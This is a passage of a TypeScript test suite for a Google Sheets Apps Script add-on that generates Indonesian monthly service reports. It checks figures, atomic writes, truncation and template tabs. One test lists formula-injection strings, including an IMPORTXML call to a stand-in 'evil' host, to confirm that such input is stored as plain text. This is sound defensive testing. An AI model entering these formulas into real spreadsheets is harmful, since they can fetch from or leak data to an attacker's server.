import { beforeAll, describe, expect, it } from 'vitest';
import { syntheticTickets } from '../../bench/synthetic';
import { ReportBuilder } from '../../core/metrics/report';
import { parseIsoMonth } from '../../core/period/yearMonth';
import { renderSummarySheets } from '../../core/render/sheetBlocks';
import { MAX_GENERATED_CELL_CHARS, sheetGrid, TRUNCATION_MARKER } from '../../core/render/sheetGrid';
import { parseWorkbook, type RawWorkbook } from '../../core/workbook/workbook';
import {
  type Call,
  type FakeEnvironment,
  type FakeSheet,
  NEW_SHEET_COLUMNS,
  NEW_SHEET_ROWS,
  OUTSIDE_SHEET,
  SPREADSHEET_TARGETS,
} from './fakeAppsScript';
import { addonAndSample, type BuiltAddon, GENERATED, snapshot, spreadsheetWith } from './harness';

let built: BuiltAddon;
let code: string;
let raw: RawWorkbook;
beforeAll(async () => {
  ({ built, raw } = await addonAndSample());
  code = built.code;
});

/** What the Generate Report dialog calls through google.script.run (not from the menu). */
const DIALOG_CALLS = ['getReportMonths', 'generateReport', 'getDeckData'];

/**
 * The add-on on the sample. Menu items run as menu executions; the dialog's calls go through
 * google.script.run (the wire's rules, a dialog execution), and answer what the dialog shows: the
 * value, or the failure handler's message.
 */
function setUp(workbook: RawWorkbook = raw, timeZone = 'Asia/Jakarta') {
  const { env, addon } = spreadsheetWith(workbook, built, timeZone);
  for (const name of DIALOG_CALLS) {
    addon[name] = (...args: unknown[]) => {
      const outcome = env.scriptRun(name, ...args);
      return outcome.ok ? outcome.value : outcome.error;
    };
  }
  return { env, addon };
}

/** What the add-on wrote into a generated tab, as a grid of values ('' for empty). */
const writtenValues = (sheet: FakeSheet, rows: number, cols: number) =>
  Array.from({ length: rows }, (_, r) => Array.from({ length: cols }, (_, c) => sheet.cells[r]?.[c] ?? ''));

/**
 * The sample plus January 2025 Pemda tickets (copies of a valid ticket) for each name: `perName`
 * each, or `perName + i` for the i-th name when `distinct` (tied Pemda are grouped in the table).
 */
function withInstansi(names: readonly string[], perName: number, distinct = false): RawWorkbook {
  const tiket = (raw.Tiket ?? []).map((row) => [...row]);
  const header = tiket[0] ?? [];
  const [instansi, kategori] = ['Nama Instansi', 'Kategori Pengguna'].map((h) => header.indexOf(h));
  const base = tiket.find((row) => row[0] instanceof Date && row[0].getTime() >= Date.UTC(2025, 0, 2)) ?? [];
  for (const [n, name] of names.entries()) {
    for (let i = 0; i < perName + (distinct ? n : 0); i++) {
      const row = [...base];
      row[instansi ?? -1] = name;
      row[kategori ?? -1] = 'Pemda';
      tiket.push(row);
    }
  }
  return { ...raw, Tiket: tiket };
}

/** Spreadsheet calls by "Target.method". */
function breakdown(calls: readonly Call[]): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const c of calls) {
    if (!SPREADSHEET_TARGETS.has(c.target)) continue;
    const key = `${c.target}.${c.method}`;
    counts[key] = (counts[key] ?? 0) + 1;
  }
  return counts;
}

const coreSheets = (workbook: RawWorkbook, month: string) =>
  renderSummarySheets(new ReportBuilder(parseWorkbook(workbook, { now: null })).build(parseIsoMonth(month) ?? 0));

describe('the built bundle', () => {
  it('declares every entry point as a top-level function', () => {
    for (const name of [
      'onOpen',
      'onInstall',
      'showGenerateDialog',
      'getReportMonths',
      'generateReport',
      'validateData',
      'createTemplate',
      'showHelp',
    ]) {
      expect(code).toMatch(new RegExp(`\\nfunction ${name}\\(\\) \\{`));
    }
  });

  it('onOpen builds the menu in AuthMode.NONE (installed, not yet used in this file) and touches no data', () => {
    const { env } = setUp();
    env.run('onOpen', [{ authMode: 'NONE' }], { kind: 'simpleTrigger', authMode: 'NONE' });
    expect(env.menu).toEqual([
      { caption: 'Generate Report…', functionName: 'showGenerateDialog' },
      { caption: 'Validasi Data', functionName: 'validateData' },
      { caption: 'Buat Template', functionName: 'createTemplate' },
      'separator',
      { caption: 'Bantuan', functionName: 'showHelp' },
    ]);
    expect(env.log.calls.map((c) => `${c.target}.${c.method}`)).not.toContain('SpreadsheetApp.getActiveSpreadsheet');
  });
});

describe('Generate Report', () => {
  it('writes the same figures as core into "Laporan 2025-01", "Validasi" and "Tren", with charts, protected warning-only', () => {
    const { env, addon } = setUp();
    const before = new Map(env.spreadsheet.sheets.map((s) => [s.name, JSON.stringify(s.cells)]));
    const message = String(addon.generateReport?.('2025-01'));
    expect(message).toContain('Laporan Januari 2025 selesai: tab "Laporan 2025-01", "Validasi" dan "Tren".');
    expect(message).toContain("Tiket B1272: Kanal 'Whatsap' tidak dikenal; maksud Anda 'WhatsApp'?");
    expect(env.spreadsheet.sheets.map((s) => s.name).slice(-3)).toEqual(['Laporan 2025-01', 'Validasi', 'Tren']);

    for (const expected of coreSheets(raw, '2025-01')) {
      const sheet = env.spreadsheet.sheet(expected.name);
      const grid = sheetGrid(expected);
      const written = writtenValues(sheet, grid.numRows, grid.numColumns);
      const links = new Set(expected.links.map((l) => `${l.row},${l.col}`));
      const expectedValues = grid.values.map((row, r) =>
        row.map((value, c) => (links.has(`${r},${c}`) ? 'link' : value)),
      );
      const writtenValuesOnly = written.map((row, r) =>
        row.map((value, c) => (links.has(`${r},${c}`) ? 'link' : value)),
      );
      expect(writtenValuesOnly, expected.name).toEqual(expectedValues);
      expect(sheet.charts).toHaveLength(expected.charts.length);
      expect(sheet.protection).toEqual({
        warningOnly: true,
        description: 'Dibuat otomatis oleh Laporan DJPK; perubahan akan ditimpa',
      });
    }
    const report = env.spreadsheet.sheet('Laporan 2025-01');
    expect(report.cells.find((r) => r[0] === 'WhatsApp' && r[1] === 695)?.[2]).toBeCloseTo(0.688, 3);
    expect(report.charts.map((c) => c.type)).toEqual(['COLUMN', 'PIE', 'LINE', 'PIE', 'COLUMN', 'PIE']);
    const tiketGid = env.spreadsheet.sheet('Tiket').id;
    expect(env.spreadsheet.sheet('Validasi').cells[4]?.[2]).toBe(`=HYPERLINK("#gid=${tiketGid}&range=B1272","B1272")`);
    // The agents' tabs are exactly as they were.
    for (const [name, cells] of before) expect(JSON.stringify(env.spreadsheet.sheet(name).cells), name).toBe(cells);
  });

  it('re-running replaces the generated tabs instead of duplicating them', () => {
    const { env, addon } = setUp();
    addon.generateReport?.('2025-01');
    const first = JSON.stringify(env.spreadsheet.sheet('Laporan 2025-01').cells);
    addon.generateReport?.('2025-01');
    expect(env.spreadsheet.sheets.filter((s) => s.name === 'Laporan 2025-01')).toHaveLength(1);
    expect(JSON.stringify(env.spreadsheet.sheet('Laporan 2025-01').cells)).toBe(first);
  });

  it('a second concurrent run is refused with a message in the dialog, and writes nothing', () => {
    const { env } = setUp();
    env.lockHeldByOther = true;
    const sheetsBefore = env.spreadsheet.sheets.length;
    expect(env.scriptRun('generateReport', '2025-01')).toEqual({
      ok: false,
      error: 'Laporan sedang dibuat oleh pengguna lain. Tunggu sebentar lalu coba lagi.',
    });
    expect(env.alerts).toEqual([]);
    expect(env.spreadsheet.sheets.length).toBe(sheetsBefore);
  });

  it('a missing tab and a renamed header give Indonesian messages, not stack traces', () => {
    const { Tiket, PPID, ...rest } = raw;
    const renamed = (Tiket ?? []).map((row, i) => (i === 0 ? row.map((h) => (h === 'Kanal' ? 'Kanall' : h)) : row));
    const { env, addon } = setUp({ ...rest, Tiket: renamed });
    const message = String(addon.generateReport?.('2025-01'));
    expect(message).toContain(
      "Kolom wajib 'Kanal' tidak ditemukan di baris 1 tab 'Tiket'; judul kolom 'Kanall' mungkin salah ketik",
    );
    expect(message).not.toMatch(/\n\s+at |TypeError|undefined|\[object/);
    const validasi = env.spreadsheet.sheet('Validasi').cells.map((r) => r.join(' | '));
    expect(
      validasi.some((r) =>
        r.includes('Tab \'PPID\' tidak ada; angka dari tab ini ditampilkan sebagai "belum tersedia"'),
      ),
    ).toBe(true);
    expect(PPID).toBeDefined();
  });

  it("an invalid month and an unexpected failure reach the dialog's failure handler as one Indonesian sentence", () => {
    const { env } = setUp();
    expect(env.scriptRun('generateReport', '2025-13')).toEqual({
      ok: false,
      error: "Bulan '2025-13' tidak valid; pilih bulan dari daftar.",
    });
    env.spreadsheet.getSpreadsheetTimeZone = () => {
      // Service messages end with a full stop; ours goes on with ". Coba lagi", never "..".
      throw new Error('Layanan tidak tersedia.');
    };
    expect(env.scriptRun('generateReport', '2025-01')).toEqual({
      ok: false,
      error: 'Membuat laporan gagal: Layanan tidak tersedia. Coba lagi; bila berulang, hubungi admin dengan pesan ini.',
    });
    expect(env.alerts).toEqual([]);
  });

  it('a spreadsheet set to another time zone gives the same WIB figures', () => {
    const jakarta = setUp(raw, 'Asia/Jakarta');
    const newYork = setUp(raw, 'America/New_York');
    jakarta.addon.generateReport?.('2025-01');
    newYork.addon.generateReport?.('2025-01');
    for (const name of ['Laporan 2025-01', 'Tren']) {
      expect(JSON.stringify(newYork.env.spreadsheet.sheet(name).cells)).toBe(
        JSON.stringify(jakarta.env.spreadsheet.sheet(name).cells),
      );
    }
    const zone = newYork.env.spreadsheet.sheet('Laporan 2025-01').cells.find((r) => r[0] === 'WIB');
    expect(zone?.slice(0, 3)).toEqual(['WIB', 635, 19]);
  });

  it('the number of spreadsheet calls does not grow with the number of tickets', () => {
    const counts = [1_000, 50_000].map((n) => {
      const { env, addon } = setUp({ ...raw, Tiket: syntheticTickets(n) });
      env.log.clear();
      addon.generateReport?.('2025-01');
      return env.log.count();
    });
    expect(counts[1]).toBe(counts[0]);
    // Before: 119 (129 once the sample had the deck's Narasi and Profil Layanan tabs).
    expect(counts[0]).toBeLessThanOrEqual(104);
  });

  it('the dialog lists the months with data and defaults to the previous month', () => {
    const { env, addon } = setUp();
    addon.showGenerateDialog?.();
    expect(env.dialogs[0]?.title).toBe('Generate Report');
    expect(env.dialogs[0]?.html).toContain('google.script.run');
    const data = addon.getReportMonths?.() as {
      months: { value: string; label: string; hasData: boolean }[];
      defaultMonth: string;
    };
    expect(data.months.find((m) => m.value === '2025-01')).toEqual({
      value: '2025-01',
      label: 'Januari 2025',
      hasData: true,
    });
    expect(data.months.filter((m) => !m.hasData).map((m) => m.value)).toEqual([data.defaultMonth]);
  });
});

describe('agent text stays text, long cells, all-or-nothing', () => {
  const HOSTILE = ['=IMPORTXML("http://evil","//a")', '+SUM(1,2)', '-2+3', '@evil', "'dikutip"];

  it('agent text that looks like a formula is written as plain text and shown as typed; only the links are formulas', () => {
    // The report names the top three Pemda by name: two spreadsheets show all five strings.
    for (const names of [HOSTILE.slice(0, 3), HOSTILE.slice(3)]) {
      const { env, addon } = setUp(withInstansi(names, 300, true));
      expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
      const report = env.spreadsheet.sheet('Laporan 2025-01');
      const shown = new Set(report.cells.flat());
      for (const text of names) expect(shown.has(text), text).toBe(true);
      expect(report.formulaCells()).toEqual([]);
    }
    const { env, addon } = setUp(withInstansi(HOSTILE.slice(0, 3), 300, true));
    addon.generateReport?.('2025-01');
    expect(env.spreadsheet.sheet('Tren').formulaCells()).toEqual([]);
    const validasi = env.spreadsheet.sheet('Validasi');
    const tiketGid = env.spreadsheet.sheet('Tiket').id;
    expect(validasi.formulaCells().length).toBeGreaterThan(0);
    for (const [cell, formula] of validasi.formulas) {
      expect(cell).toMatch(/^\d+,2$/);
      expect(formula).toMatch(/^=HYPERLINK\("#gid=\d+&range=[A-Z]+\d+","[A-Z]+\d+"\)$/);
    }
    expect(validasi.formulas.get('4,2')).toBe(`=HYPERLINK("#gid=${tiketGid}&range=B1272","B1272")`);
    // Every text cell is plain text before its value arrives; link cells carry a number format.
    const calls = env.log.calls.filter((c) => c.target === 'Range');
    for (let i = 0; i < calls.length; i++) {
      if (calls[i]?.method === 'setValues') expect(calls[i - 1]?.method).toBe('setNumberFormats');
    }
  });

  it('a generated cell over the limits (Pemda names joined) is cut with a visible marker, and the report is written', () => {
    const long = ['A', 'B', 'C'].map((c) => c.repeat(30_000));
    const { env, addon } = setUp();
    addon.generateReport?.('2025-01');
    // Three 30,000-character names with the same count: the sentence naming them is 90,000+ long.
    env.spreadsheet.sheet('Tiket').fill(withInstansi(long, 200).Tiket ?? []);
    expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
    const cells = env.spreadsheet.sheet('Laporan 2025-01').cells.flat();
    const cut = cells.filter((v): v is string => typeof v === 'string' && v.endsWith(TRUNCATION_MARKER));
    expect(cut.length).toBeGreaterThan(0);
    expect(cut).toHaveLength(1);
    expect(cut[0]?.length).toBe(MAX_GENERATED_CELL_CHARS);
    // The sentence naming the top Pemda: it still starts as written and holds the first name whole.
    expect(cut[0]).toMatch(/^Pemda .*terbanyak/);
    expect(cut[0]?.includes(long[0] ?? '')).toBe(true);
    for (const value of cells)
      if (typeof value === 'string') expect(value.length).toBeLessThanOrEqual(MAX_GENERATED_CELL_CHARS);
  });

  it('a write that fails midway leaves the previous tabs exactly as they were and removes the half-built ones', () => {
    const { env, addon } = setUp();
    addon.generateReport?.('2025-01');
    const before = env.spreadsheet.sheets.map((s) => s.name);
    const old = new Map(GENERATED.map((name) => [name, snapshot(env.spreadsheet.sheet(name))]));
    env.alerts.length = 0;
    env.spreadsheet.toasts.length = 0;
    // The second tab's values fail, after the whole report tab was built under its temporary name.
    env.log.failWhen = (call, calls) =>
      call.target === 'Range' &&
      call.method === 'setValues' &&
      calls.filter((c) => c.target === 'Range' && c.method === 'setValues').length === 2
        ? 'Service Spreadsheets timed out while accessing document with id 1abc.'
        : null;
    env.log.clear();
    const message = String(addon.generateReport?.('2025-01'));
    expect(message).toBe(
      'Membuat laporan gagal: tab laporan tidak dapat ditulis (Service Spreadsheets timed out while accessing document with id 1abc); tab laporan sebelumnya tidak diubah. Coba lagi; bila berulang, hubungi admin dengan pesan ini.',
    );
    expect(env.alerts).toEqual([]);
    expect(env.spreadsheet.toasts).toEqual([]);
    expect(env.spreadsheet.sheets.map((s) => s.name)).toEqual(before);
    for (const [name, shot] of old) expect(snapshot(env.spreadsheet.sheet(name)), name).toBe(shot);

    env.log.failWhen = null;
    expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
    expect(env.spreadsheet.sheets.map((s) => s.name)).toEqual(before);
    expect(env.spreadsheet.sheet('Laporan 2025-01').id).not.toBe(JSON.parse(old.get('Laporan 2025-01') ?? '{}').id);
  });

  it('Sheets refusing a cell over 50,000 characters is the same all-or-nothing failure', () => {
    const { env, addon } = setUp();
    addon.generateReport?.('2025-01');
    const old = new Map(GENERATED.map((name) => [name, snapshot(env.spreadsheet.sheet(name))]));
    // A value over Sheets' limit can no longer come from core (it cuts at 32,767); make the emulator
    // see one by lengthening what the add-on writes into the Validasi tab.
    env.log.failWhen = (call) => {
      if (call.target === 'Range' && call.method === 'setValues') {
        const values = call.args[0] as unknown[][];
        if (values[0]?.[0] === 'Validasi Data — Januari 2025' && values[0]) values[0][0] = 'x'.repeat(50_001);
      }
      return null;
    };
    const message = String(addon.generateReport?.('2025-01'));
    expect(message).toContain(
      'tab laporan tidak dapat ditulis (Your input contains more than the maximum of 50000 characters in a single cell); tab laporan sebelumnya tidak diubah',
    );
    for (const [name, shot] of old) expect(snapshot(env.spreadsheet.sheet(name)), name).toBe(shot);
    expect(env.spreadsheet.sheets.filter((s) => s.name.includes('(sedang dibuat)'))).toEqual([]);
  });

  it('a tab left half-built by a run Apps Script stopped is removed by the next run', () => {
    const { env, addon } = setUp();
    env.spreadsheet.addSheet('Validasi (sedang dibuat)', [['setengah']]);
    expect(String(addon.generateReport?.('2025-01'))).toContain('selesai');
    expect(env.spreadsheet.sheets.map((s) => s.name).slice(-3)).toEqual(GENERATED);
    expect(env.spreadsheet.sheets.some((s) => s.name.includes('(sedang dibuat)'))).toBe(false);
  });
});

describe('service calls', () => {
  it('Generate Report: one getActiveSpreadsheet, no UI call (the dialog shows the message); a re-run adds only listing, moving aside and deleting the replaced tabs', () => {
    const { env, addon } = setUp();
    env.log.clear();
    addon.generateReport?.('2025-01');
    const first = breakdown(env.log.calls);
    const firstTotal = env.log.count();
    env.log.clear();
    addon.generateReport?.('2025-01');
    const second = breakdown(env.log.calls);
    const secondTotal = env.log.count();

    // Before: 124 and 130 calls on this sample (184 as the old emulator counted its own getSheetId
    // calls); 107/113 while an alert over the dialog repeated its message.
    expect(firstTotal).toBeLessThanOrEqual(106);
    expect(secondTotal).toBeLessThanOrEqual(115);
    expect(first['SpreadsheetApp.getActiveSpreadsheet']).toBe(1);
    expect(first['Spreadsheet.toast']).toBeUndefined();
    expect(first['SpreadsheetApp.getUi']).toBeUndefined();
    for (const font of ['setFontWeights', 'setFontColors', 'setFontSizes'])
      expect(first[`Range.${font}`]).toBeUndefined();
    expect(first['Range.setTextStyles']).toBe(3);
    expect(first['Range.setValues']).toBe(3);
    // The only difference: the three old tabs are listed (getName), step aside (setName, so that a
    // failed rename can be undone) and are deleted.
    const diff = Object.fromEntries(
      Object.keys({ ...first, ...second })
        .filter((k) => first[k] !== second[k])
        .map((k) => [k, (second[k] ?? 0) - (first[k] ?? 0)]),
    );
    expect(diff).toEqual({ 'Sheet.getName': 3, 'Sheet.setName': 3, 'Spreadsheet.deleteSheet': 3 });
  });

  it('a report without data errors also ends without alert or toast: the dialog shows its message', () => {
    const { env, addon } = setUp({ ...raw, Tiket: syntheticTickets(1_000) });
    env.log.clear();
    expect(String(addon.generateReport?.('2025-01'))).toMatch(/selesai.* 0 temuan data\.$/);
    const calls = breakdown(env.log.calls);
    expect(env.spreadsheet.toasts).toEqual([]);
    expect(calls['SpreadsheetApp.getUi']).toBeUndefined();
    expect(calls['SpreadsheetApp.getActiveSpreadsheet']).toBe(1);
  });
});

/** Everything a person sees of a tab (not its id): values, formats, styles, links, widths, charts, protection. */
const look = (sheet: FakeSheet) => ({
  name: sheet.name,
  cells: sheet.cells,
  cellFormats: sheet.cellFormats,
  styles: [...sheet.styles],
  formulas: [...sheet.formulas],
  columnWidths: [...sheet.columnWidths],
  charts: sheet.charts,
  protection: sheet.protection,
});

/**
 * A spreadsheet used for a while: last month's report generated (Laporan 2024-12, Validasi, Tren),
 * and `older` more old report tabs, placed as monthly runs leave them: after the tracking tabs,
 * before Validasi and Tren.
 */
function usedSpreadsheet(older: number, workbook: RawWorkbook = raw) {
  const { env, addon } = setUp(workbook);
  addon.generateReport?.('2024-12');
  const report = env.spreadsheet.sheet('Laporan 2024-12');
  const at = env.spreadsheet.sheets.indexOf(report);
  for (let i = 1; i <= older; i++) {
    const month = 2024 * 12 + 11 - i;
    const name = `Laporan ${Math.floor(month / 12)}-${String((month % 12) + 1).padStart(2, '0')}`;
    const sheet = env.spreadsheet.addSheet(name, report.cells);
    env.spreadsheet.sheets.pop();
    env.spreadsheet.sheets.splice(at, 0, sheet);
  }
  return { env, addon };
}

/** The calls of one Generate Report 2025-01, by method and in total. */
function callsOf(env: FakeEnvironment, addon: Record<string, (...args: unknown[]) => unknown>) {
  env.log.clear();
  expect(String(addon.generateReport?.('2025-01'))).toContain('Laporan Januari 2025 selesai');
  return { byMethod: breakdown(env.log.calls), total: env.log.count() };
}

/** The per-method difference b − a, only where they differ. */
const diffOf = (a: Record<string, number>, b: Record<string, number>) =>
  Object.fromEntries(
    Object.keys({ ...a, ...b })
      .filter((k) => a[k] !== b[k])
      .map((k) => [k, (b[k] ?? 0) - (a[k] ?? 0)]),
  );

describe('a second Generate Report and a year of old reports', () => {
  it('a second run leaves exactly the tabs of the first: values, formats, styles, links, widths, charts, protection', () => {
    const { env, addon } = setUp();
    addon.generateReport?.('2025-01');
    const names = env.spreadsheet.sheets.map((s) => s.name);
    const first = GENERATED.map((name) => look(env.spreadsheet.sheet(name)));
    const firstIds = GENERATED.map((name) => env.spreadsheet.sheet(name).id);
    // Not vacuous: the tabs carry widths, charts, links and protection.
    expect(first.map((t) => t.columnWidths.length)).not.toContain(0);
    expect(first.map((t) => t.charts.length)).toEqual([6, 0, 1]);
    expect(first[1]?.formulas.length).toBeGreaterThan(0);
    addon.generateReport?.('2025-01');
    expect(env.spreadsheet.sheets.map((s) => s.name)).toEqual(names);
    expect(GENERATED.map((name) => look(env.spreadsheet.sheet(name)))).toEqual(first);
    // Rebuilt, not edited in place: a manual change to a generated tab is overwritten.
    for (const [i, name] of GENERATED.entries()) expect(env.spreadsheet.sheet(name).id).not.toBe(firstIds[i]);
  });

  it('a second run costs only finding, moving aside and deleting the three old tabs; old report tabs add three', () => {
    const fresh = setUp();
    const first = callsOf(fresh.env, fresh.addon);
    const second = callsOf(fresh.env, fresh.addon);
    // The whole difference: the three old tabs are found (named), step aside and are deleted at the
    // swap. The first run knows for free that there are none (every tab was named while reading).
    expect(diffOf(first.byMethod, second.byMethod)).toEqual({
      'Sheet.getName': 3,
      'Sheet.setName': 3,
      'Spreadsheet.deleteSheet': 3,
    });
    expect(second.total).toBe(first.total + 9);

    // Twelve and twenty-four old report tabs: tabs are named only until every tracking tab is found
    // (19 in the sample), the generated ones are looked up by name.
    const [year, twoYears] = [11, 23].map((older) => {
      const { env, addon } = usedSpreadsheet(older);
      expect(env.spreadsheet.sheets.filter((s) => /^Laporan \d{4}-\d{2}$/.test(s.name))).toHaveLength(older + 1);
      const newMonth = callsOf(env, addon);
      const again = callsOf(env, addon);
      return { newMonth, again };
    });
    if (!year || !twoYears) throw new Error('no runs');
    // 19 tracking tabs named, and each generated tab getSheetByName found is named once more: a team
    // tab "TREN" must never be taken for "Tren" (SheetIndex.find).
    expect(year.again.byMethod['Sheet.getName']).toBe(19 + 3);
    expect(diffOf(second.byMethod, year.again.byMethod)).toEqual({ 'Spreadsheet.getSheetByName': 3 });
    expect(year.again.total).toBe(second.total + 3);
    expect(twoYears.again.total).toBe(year.again.total);
    expect(twoYears.newMonth.total).toBe(year.newMonth.total);
    // A new month's first run: Validasi and Tren are replaced, no Laporan 2025-01 yet, so it looks
    // once for a "Laporan 2025-01 (lama)" that a run stopped mid-swap could have left.
    expect(diffOf(year.newMonth.byMethod, year.again.byMethod)).toEqual({
      'Sheet.getName': 1,
      'Sheet.setName': 1,
      'Spreadsheet.deleteSheet': 1,
      'Spreadsheet.getSheetByName': -1,
    });
  });

  it('with old report tabs, the tabs of a re-run equal those of a fresh spreadsheet', () => {
    const fresh = setUp();
    fresh.addon.generateReport?.('2025-01');
    const { env, addon } = usedSpreadsheet(11);
    addon.generateReport?.('2025-01');
    addon.generateReport?.('2025-01');
    expect(env.spreadsheet.sheets.map((s) => s.name).slice(-3)).toEqual(GENERATED);
    for (const name of GENERATED) {
      // Links name the Tiket tab's gid, which differs between the two spreadsheets.
      const gid = (e: FakeEnvironment) => String(e.spreadsheet.sheet('Tiket').id);
      const normalise = (e: FakeEnvironment) =>
        JSON.stringify(look(e.spreadsheet.sheet(name))).replaceAll(gid(e), 'GID');
      expect(normalise(env), name).toBe(normalise(fresh.env));
    }
    expect(env.spreadsheet.sheets.some((s) => s.name.includes('(sedang dibuat)'))).toBe(false);
  });

  it('a half-built tab among tabs that were not named is removed when its name is needed again', () => {
    const { env, addon } = usedSpreadsheet(11);
    env.spreadsheet.addSheet('Tren (sedang dibuat)', [['setengah']]);
    const count = env.spreadsheet.sheets.length;
    expect(String(addon.generateReport?.('2025-01'))).toContain('selesai');
    expect(env.spreadsheet.sheets.map((s) => s.name).slice(-3)).toEqual(GENERATED);
    expect(env.spreadsheet.sheets.some((s) => s.name.includes('(sedang dibuat)'))).toBe(false);
    // Laporan 2025-01 added, the half-built tab removed.
    expect(env.spreadsheet.sheets.length).toBe(count);
  });

  it('with old report tabs, a write that fails midway still leaves every tab as it was', () => {
    const { env, addon } = usedSpreadsheet(11);
    addon.generateReport?.('2025-01');
    const before = env.spreadsheet.sheets.map((s) => snapshot(s));
    env.log.clear();
    env.log.failWhen = (call, calls) =>
      call.target === 'Range' &&
      call.method === 'setValues' &&
      calls.filter((c) => c.target === 'Range' && c.method === 'setValues').length === 3
        ? 'Service Spreadsheets timed out while accessing document with id 1abc.'
        : null;
    expect(String(addon.generateReport?.('2025-01'))).toContain('tab laporan sebelumnya tidak diubah');
    expect(env.spreadsheet.sheets.map((s) => snapshot(s))).toEqual(before);
  });

  it('Validasi Data with old report tabs looks Validasi up by name and replaces only it', () => {
    const { env, addon } = usedSpreadsheet(11);
    const names = env.spreadsheet.sheets.map((s) => s.name);
    const tren = snapshot(env.spreadsheet.sheet('Tren'));
    const validasiId = env.spreadsheet.sheet('Validasi').id;
    env.log.clear();
    expect(String(addon.validateData?.())).toMatch(/temuan/);
    const calls = breakdown(env.log.calls);
    expect(calls['Sheet.getName']).toBe(19 + 1);
    expect(calls['Spreadsheet.getSheetByName']).toBe(1);
    expect(calls['Sheet.setName']).toBe(2);
    expect(calls['Spreadsheet.deleteSheet']).toBe(1);
    // Validasi moves to the end, rebuilt; every other tab is untouched.
    expect(env.spreadsheet.sheets.map((s) => s.name)).toEqual([...names.filter((n) => n !== 'Validasi'), 'Validasi']);
    expect(env.spreadsheet.sheet('Validasi').id).not.toBe(validasiId);
    expect(snapshot(env.spreadsheet.sheet('Tren'))).toBe(tren);
  });

  it('a tracking tab under an alias after the old report tabs is still read', () => {
    const { 'Video Conference': vicon, ...rest } = raw;
    const canonical = setUp();
    canonical.addon.generateReport?.('2025-01');
    const { env, addon } = usedSpreadsheet(11, rest);
    env.spreadsheet.addSheet(
      'Vicon',
      (vicon ?? []).map((row) => [...row]),
    );
    addon.generateReport?.('2025-01');
    const cells = (e: FakeEnvironment) => JSON.stringify(e.spreadsheet.sheet('Laporan 2025-01').cells);
    expect(vicon?.length).toBeGreaterThan(1);
    expect(cells(env)).toBe(cells(canonical.env));
  });
});

describe('Validasi Data, Buat Template', () => {
  it('Validasi Data rewrites only the Validasi tab', () => {
    const { env, addon } = setUp();
    const message = String(addon.validateData?.());
    expect(message).toMatch(/^\d+ temuan \(\d+ galat\) untuk .+\. Lihat tab Validasi\.$/);
    expect(env.spreadsheet.sheets.map((s) => s.name)).toContain('Validasi');
    expect(env.spreadsheet.sheets.map((s) => s.name)).not.toContain('Tren');
  });

  it('Buat Template adds only missing tabs, with drop-downs, and never touches existing ones', () => {
    const empty = setUp({ Catatan: [['bebas']] });
    expect(empty.addon.createTemplate?.()).toMatch(
      /^Tab ditambahkan: Tiket, Chatbot, Publikasi, .*Hari Libur, Narasi, Profil Layanan, Daftar Pemda\.$/,
    );
    const tiket = empty.env.spreadsheet.sheet('Tiket');
    expect(tiket.cells[0]?.slice(0, 3)).toEqual(['Tanggal', 'Kanal', 'Kategori Pengguna']);
    expect(tiket.validations.get('2,2,2000,1')).toEqual({
      values: ['WhatsApp', 'Telepon', 'Email', 'Help Desk', 'Live Chat'],
      allowInvalid: true,
    });
    expect(tiket.frozenRows).toBe(1);
    // Nama Instansi (D) offers the 552 official Pemda names of the list tab, warning on another name.
    const names = empty.env.spreadsheet.sheet('Daftar Pemda');
    expect(names.cells[0]).toEqual(['Nama Resmi', 'Nama di Laporan', 'Jenis', 'Provinsi', 'Zona Waktu', 'Kode']);
    expect(names.cells).toHaveLength(553);
    expect(names.cells).toContainEqual(['Kabupaten Bogor', 'Kab. Bogor', 'Kabupaten', 'Jawa Barat', 'WIB', '32.01']);
    expect(names.cells).toContainEqual(['Kota Manado', 'Kota Manado', 'Kota', 'Sulawesi Utara', 'WITA', '71.71']);
    expect(names.cells.map((r) => r[0])).toContain('Provinsi Papua Barat Daya');
    expect(tiket.cells[0]?.[3]).toBe('Nama Instansi');
    const rule = tiket.validations.get('2,4,2000,1');
    expect(rule).toMatchObject({
      range: { sheet: 'Daftar Pemda', row: 2, col: 1, numRows: 552, numCols: 1 },
      showDropdown: true,
      allowInvalid: true,
    });
    expect(rule?.helpText).toContain('Instansi lain (K/L, akademisi, lainnya) boleh diketik bebas');
    expect(empty.env.spreadsheet.sheet('Catatan').cells).toEqual([['bebas']]);

    const full = setUp();
    const before = JSON.stringify(full.env.spreadsheet.sheets.map((s) => s.cells));
    expect(full.addon.createTemplate?.()).toBe('Semua tab pencatatan sudah ada; tidak ada yang diubah.');
    expect(JSON.stringify(full.env.spreadsheet.sheets.map((s) => s.cells))).toBe(before);
  });
});

/**
 * The sample plus `count` tickets whose Kanal is a typo, each a Validasi finding: copies of a
 * January 2025 ticket, or dated `date` (a UTC-encoded WIB wall-clock) when given.
 */
function withInvalidTickets(count: number, date?: Date): RawWorkbook {
  const tiket = (raw.Tiket ?? []).map((row) => [...row]);
  const kanal = (tiket[0] ?? []).indexOf('Kanal');
  const base = tiket.find((row) => row[0] instanceof Date && row[0].getTime() >= Date.UTC(2025, 0, 2)) ?? [];
  for (let i = 0; i < count; i++) {
    const row = [...base];
    row[kanal] = 'Whatsap';
    if (date) row[0] = date;
    tiket.push(row);
  }
  return { ...raw, Tiket: tiket };
}

describe('a new tab has 1,000 rows × 26 columns, as in Google Sheets', () => {
  it('the emulator refuses a range outside a tab until the tab is grown, and sizes the team tabs to their data', () => {
    const { env } = setUp();
    const spreadsheet = env.services().SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
    const sheet = spreadsheet.getActiveSpreadsheet().insertSheet('Baru');
    expect([sheet.getMaxRows(), sheet.getMaxColumns()]).toEqual([NEW_SHEET_ROWS, NEW_SHEET_COLUMNS]);
    expect(() => sheet.getRange(1000, 26, 1, 1)).not.toThrow();
    expect(() => sheet.getRange(2, 1, 1000, 1)).toThrow(OUTSIDE_SHEET);
    expect(() => sheet.getRange(1, 2, 1, 26)).toThrow(OUTSIDE_SHEET);
    sheet.insertRowsAfter(1000, 1).insertColumnsAfter(26, 1);
    expect(() => sheet.getRange(2, 2, 1000, 26)).not.toThrow();
    const tiket = env.spreadsheet.sheet('Tiket');
    expect(tiket.maxRows).toBe(Math.max(NEW_SHEET_ROWS, tiket.cells.length));
    expect(tiket.maxRows).toBeGreaterThan(NEW_SHEET_ROWS);
  });

